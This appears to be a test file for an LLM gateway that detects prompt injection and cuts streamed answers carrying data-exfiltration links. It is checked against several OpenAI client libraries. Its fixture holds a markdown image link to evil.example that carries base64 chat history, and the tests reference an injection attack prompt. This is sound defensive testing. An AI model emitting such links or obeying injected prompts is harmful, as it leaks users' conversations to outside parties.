import { createOpenAI } from '@ai-sdk/openai';
import { createOpenAICompatible } from '@ai-sdk/openai-compatible';
import { jsonSchema, type LanguageModel, streamText, type ToolSet, tool } from 'ai';
import OpenAI, { APIError, PermissionDeniedError } from 'openai';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { installPythonClient, readWithPython } from './python-openai.ts';
import { REQUEST_ID } from './shapes.ts';
import { ATTACK, answering, BENIGN, type Stack, startStack } from './stack.ts';

const SAFE = 'Here is your picture of the river Seine in Paris. ';
const SECRET = Buffer.from('the secret history of this chat').toString('base64');
const BAD = `${SAFE}![x](https://evil.example/c?d=${SECRET}) I hope that you like it. It is nice.`;
const CLEAN = 'Paris is the capital of France, a city of two million people on the river Seine.';
const CODE = 'unsafe_link_detected';

/** Ends a cut stream with an error event. */
let strict: Stack;
/** Ends it without one. */
let lenient: Stack;
let whyNoPython: string | null = null;
beforeAll(async () => {
  [strict, lenient, whyNoPython] = await Promise.all([
    startStack(),
    startStack({ env: { PORTCULLIS_STREAM_ON_BLOCK: 'content_filter' } }),
    installPythonClient(),
  ]);
});
afterAll(() => Promise.all([strict.stop(), lenient.stop()]));

/** @param text The answer; null leaves it to the sample provider. */
const headersFor = (stack: Stack, text: string | null): Record<string, string> => ({
  'X-Gateway-Key': stack.ready.gatewayKey,
  'x-sample-chunk-chars': '6',
  'x-sample-chunk-delay-ms': '5',
  ...(text === null ? {} : answering(text)),
});

const baseUrl = (stack: Stack): string => `${stack.ready.proxyUrl}/v1`;

const chatsOf = (stack: Stack): number => stack.provider.requests().chat;

/** What a client made of a stream. */
type Seen = {
  text: string;
  finishReason: string | null;
  usage: number | null;
  gateway: unknown;
  error: unknown;
};

const NOTHING: Seen = { text: '', finishReason: null, usage: null, gateway: null, error: null };
const CUT_TEXT = expect.stringMatching(/^Here is your picture of the river Seine in Par/);

const expectCutText = (text: string): void => {
  expect(SAFE.startsWith(text)).toBe(true);
  // Events leave whole, so that the last one before the attack may be missing.
  expect(text.length).toBeGreaterThan(SAFE.length - 12);
};

const WEATHER_QUESTION = 'Please get_weather for Paris';
const WEATHER_TOOL = {
  name: 'get_weather',
  description: 'Gives the weather of a city.',
  parameters: { type: 'object', properties: { city: { type: 'string' } }, required: ['city'] },
};

describe('the openai client for npm', () => {
  type Params = Omit<OpenAI.ChatCompletionCreateParamsStreaming, 'model' | 'stream'>;

  const clientFor = (stack: Stack, text: string | null): OpenAI =>
    new OpenAI({ apiKey: 'sk-x', baseURL: baseUrl(stack), defaultHeaders: headersFor(stack, text) });

  const read = async (stack: Stack, text: string | null, params: Partial<Params> = {}): Promise<Seen> => {
    const seen = { ...NOTHING };
    const messages: Params['messages'] = [{ role: 'user', content: BENIGN }];
    const asked = { messages, ...params, model: 'sample', stream: true as const };
    const stream = await clientFor(stack, text).chat.completions.create(asked);
    try {
      for await (const chunk of stream) {
        const [choice] = chunk.choices;
        const call = choice?.delta.tool_calls?.[0]?.function?.arguments;
        seen.text += choice?.delta.content ?? call ?? '';
        seen.finishReason = choice?.finish_reason ?? seen.finishReason;
        seen.usage = chunk.usage?.total_tokens ?? seen.usage;
        seen.gateway = Reflect.get(chunk, 'gateway') ?? seen.gateway;
      }
    } catch (error) {
      seen.error = error;
    }
    return seen;
  };

  it('reads a clean stream to its end, usage included', async () => {
    const seen = await read(strict, CLEAN, { stream_options: { include_usage: true } });
    expect(seen).toEqual({ ...NOTHING, text: CLEAN, finishReason: 'stop', usage: expect.any(Number) });
  });

  it('throws an APIError with our code where a stream is cut, behind the safe text', async () => {
    const before = chatsOf(strict);
    const { error, text, finishReason, gateway } = await read(strict, BAD);
    expectCutText(text);
    expect(finishReason).toBe('content_filter');
    expect(gateway).toMatchObject({ output_status: 'blocked', detection: { sub_type: 'exfiltration_link' } });
    expect(error).toBeInstanceOf(APIError);
    expect(error).toMatchObject({ code: CODE, type: 'response_blocked', status: undefined });
    expect(error).toMatchObject({
      error: { request_id: expect.stringMatching(REQUEST_ID), detection: { category: 'data_leak' } },
    });
    expect(chatsOf(strict) - before, 'it is not tried again').toBe(1);
  });

  it('ends normally with the reason content_filter where the operator wants no error', async () => {
    const { error, text, finishReason } = await read(lenient, BAD);
    expectCutText(text);
    expect({ error, finishReason }).toEqual({ error: null, finishReason: 'content_filter' });
  });

  it('reads the arguments of a tool call', async () => {
    const { text, finishReason } = await read(strict, null, {
      messages: [{ role: 'user', content: WEATHER_QUESTION }],
      tools: [{ type: 'function', function: WEATHER_TOOL }],
    });
    expect(JSON.parse(text)).toEqual({ city: WEATHER_QUESTION });
    expect(finishReason).toBe('tool_calls');
  });

  it('throws where the arguments of a tool call are cut', async () => {
    const { error, text } = await read(strict, JSON.stringify({ city: BAD }), {
      messages: [{ role: 'user', content: WEATHER_QUESTION }],
      tools: [{ type: 'function', function: WEATHER_TOOL }],
    });
    expect(error).toMatchObject({ code: CODE });
    expect(text).not.toContain('evil');
  });

  it('reads a stream by its helper, and has it throw', async () => {
    const ask = (text: string) =>
      clientFor(strict, text).chat.completions.stream({
        model: 'sample',
        messages: [{ role: 'user', content: BENIGN }],
      });
    const completion = await ask(CLEAN).finalChatCompletion();
    expect(completion.choices[0]?.message.content).toBe(CLEAN);
    await expect(ask(BAD).finalChatCompletion()).rejects.toMatchObject({ code: CODE });
  });

  it('throws a PermissionDeniedError for an attack in the request', async () => {
    await expect(
      read(strict, CLEAN, { messages: [{ role: 'user', content: ATTACK }] }),
    ).rejects.toBeInstanceOf(PermissionDeniedError);
  });
});

describe('the openai client for Python', () => {
  const read = (stack: Stack, text: string | null, body: object = {}): Promise<unknown> =>
    readWithPython({
      baseUrl: baseUrl(stack),
      headers: headersFor(stack, text),
      body: { model: 'sample', messages: [{ role: 'user', content: BENIGN }], ...body },
    });

  const pyIt = (name: string, test: () => Promise<void>): void => {
    it(name, async ({ skip }) => {
      if (whyNoPython !== null) {
        console.warn(`NOT TESTED: ${name}; the openai client for Python is not here: ${whyNoPython}`);
        skip(whyNoPython);
      }
      await test();
    });
  };

  pyIt('reads a clean stream to its end, usage included', async () => {
    const seen = await read(strict, CLEAN, { stream_options: { include_usage: true } });
    expect(seen).toMatchObject({ text: CLEAN, finishReason: 'stop', error: null, usage: expect.any(Number) });
  });

  pyIt('raises an APIError with our code where a stream is cut, behind the safe text', async () => {
    const before = chatsOf(strict);
    expect(await read(strict, BAD)).toMatchObject({
      text: CUT_TEXT,
      finishReason: 'content_filter',
      gateway: { output_status: 'blocked' },
      error: {
        isApiError: true,
        class: 'APIError',
        code: CODE,
        type: 'response_blocked',
        status: null,
        body: { request_id: expect.stringMatching(REQUEST_ID), detection: { category: 'data_leak' } },
      },
    });
    expect(chatsOf(strict) - before).toBe(1);
  });

  pyIt('ends normally with the reason content_filter where the operator wants no error', async () => {
    expect(await read(lenient, BAD)).toMatchObject({
      text: CUT_TEXT,
      finishReason: 'content_filter',
      error: null,
    });
  });

  pyIt('reads the arguments of a tool call', async () => {
    const body = {
      messages: [{ role: 'user', content: WEATHER_QUESTION }],
      tools: [{ type: 'function', function: WEATHER_TOOL }],
    };
    expect(await read(strict, null, body)).toMatchObject({
      arguments: JSON.stringify({ city: WEATHER_QUESTION }),
      finishReason: 'tool_calls',
      error: null,
    });
  });

  pyIt('raises PermissionDeniedError for an attack in the request', async () => {
    expect(await read(strict, CLEAN, { messages: [{ role: 'user', content: ATTACK }] })).toMatchObject({
      error: { class: 'PermissionDeniedError', status: 403, code: 'prompt_injection_detected' },
    });
  });
});

const AI_MODELS: readonly (readonly [
  name: string,
  model: (stack: Stack, text: string | null) => LanguageModel,
])[] = [
  [
    '@ai-sdk/openai-compatible',
    (stack, text) =>
      createOpenAICompatible({
        name: 'portcullis',
        apiKey: 'sk-x',
        baseURL: baseUrl(stack),
        headers: headersFor(stack, text),
        includeUsage: true,
      })('sample'),
  ],
  [
    '@ai-sdk/openai',
    (stack, text) =>
      createOpenAI({ apiKey: 'sk-x', baseURL: baseUrl(stack), headers: headersFor(stack, text) }).chat(
        'sample',
      ),
  ],
];

const WEATHER_TOOLS: ToolSet = {
  get_weather: tool({
    description: WEATHER_TOOL.description,
    inputSchema: jsonSchema({ type: 'object', properties: { city: { type: 'string' } } }),
  }),
};

describe.each(AI_MODELS)('the ai SDK with %s', (_name, modelFor) => {
  const read = async (stack: Stack, text: string | null, prompt = BENIGN, tools: ToolSet = {}) => {
    const seen = { ...NOTHING, calls: [] as unknown[], raised: 0 };
    const { fullStream } = streamText({
      model: modelFor(stack, text),
      prompt,
      tools,
      onError: () => {
        seen.raised += 1;
      },
    });
    for await (const part of fullStream) {
      if (part.type === 'text-delta') seen.text += part.text;
      else if (part.type === 'error') seen.error = part.error;
      else if (part.type === 'tool-call') seen.calls.push(part.input);
      else if (part.type === 'finish') {
        seen.finishReason = part.finishReason;
        seen.usage = part.totalUsage.totalTokens ?? null;
      }
    }
    return seen;
  };

  it('reads a clean stream to its end, usage included', async () => {
    const { text, finishReason, usage, error } = await read(strict, CLEAN);
    expect({ text, finishReason, error }).toEqual({ text: CLEAN, finishReason: 'stop', error: null });
    expect(usage).toBeGreaterThan(0);
  });

  it('reports the error where a stream is cut, behind the safe text, and does not try again', async () => {
    const before = chatsOf(strict);
    const { text, finishReason, error, raised } = await read(strict, BAD);
    expectCutText(text);
    expect(finishReason).toBe('error');
    expect(raised).toBe(1);
    expect(JSON.stringify(error, Object.getOwnPropertyNames(error))).toContain(CODE);
    expect(chatsOf(strict) - before).toBe(1);
  });

  it('ends normally with the reason content-filter where the operator wants no error', async () => {
    const { text, finishReason, error } = await read(lenient, BAD);
    expectCutText(text);
    expect({ finishReason, error }).toEqual({ finishReason: 'content-filter', error: null });
  });

  it('reads a tool call', async () => {
    const { calls, finishReason } = await read(strict, null, WEATHER_QUESTION, WEATHER_TOOLS);
    expect(calls).toEqual([{ city: WEATHER_QUESTION }]);
    expect(finishReason).toBe('tool-calls');
  });

  it('reports a 403 for an attack in the request, and does not try again', async () => {
    const before = chatsOf(strict);
    const { error, text } = await read(strict, CLEAN, ATTACK);
    expect(text).toBe('');
    expect(error).toMatchObject({ statusCode: 403, isRetryable: false });
    expect(chatsOf(strict)).toBe(before);
  });
});
